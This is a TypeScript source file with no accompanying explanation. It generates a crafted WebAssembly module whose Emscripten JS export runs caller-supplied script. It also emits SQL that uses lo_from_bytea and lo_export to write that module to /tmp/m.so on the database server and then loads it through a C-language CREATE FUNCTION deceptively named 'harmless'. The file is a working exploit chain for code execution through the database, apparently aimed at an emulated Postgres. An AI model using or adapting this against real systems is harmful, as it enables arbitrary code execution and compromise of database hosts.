/**
 * A WebAssembly module as a dump could bring it: Emscripten's loader runs the JavaScript that its export `__em_js__x` points to.
 * @see https://github.com/WebAssembly/tool-conventions/blob/main/DynamicLinking.md
 */
export function foreignModule(script: string): Buffer {
  const data = Buffer.from(`(void)<::>0; ${script}\0`)
  const linking = [...name('dylink.0'), 1, ...sized([...leb(data.length + 16), 4, 0, 0])]
  const imports = [2, ...name('env'), ...name('memory'), 2, 0, 1, ...name('env'), ...name('__memory_base'), 3, 0x7f, 0]
  return Buffer.from([
    ...[0, 0x61, 0x73, 0x6d, 1, 0, 0, 0],
    ...section(0, linking),
    ...section(2, imports),
    ...section(6, [1, 0x7f, 0, 0x41, 0, 0x0b]),
    ...section(7, [1, ...name('__em_js__x'), 3, 1]),
    ...section(11, [1, 0, 0x23, 0, 0x0b, ...sized([...data])])
  ])
}

/** Statements that write the module into the database's own file system and have the server load it. */
export function loadingStatements(script: string): string[] {
  return [
    `SELECT pg_catalog.lo_from_bytea(424242, '\\x${foreignModule(script).toString('hex')}');`,
    "SELECT pg_catalog.lo_export(424242, '/tmp/m.so');",
    "CREATE FUNCTION public.harmless() RETURNS integer LANGUAGE c AS '/tmp/m.so', 'harmless';"
  ]
}

function leb(value: number): number[] {
  return value < 128 ? [value] : [(value & 127) | 128, ...leb(value >> 7)]
}

function sized(bytes: readonly number[]): number[] {
  return [...leb(bytes.length), ...bytes]
}

function name(text: string): number[] {
  return sized([...Buffer.from(text)])
}

function section(id: number, bytes: readonly number[]): number[] {
  return [id, ...sized(bytes)]
}
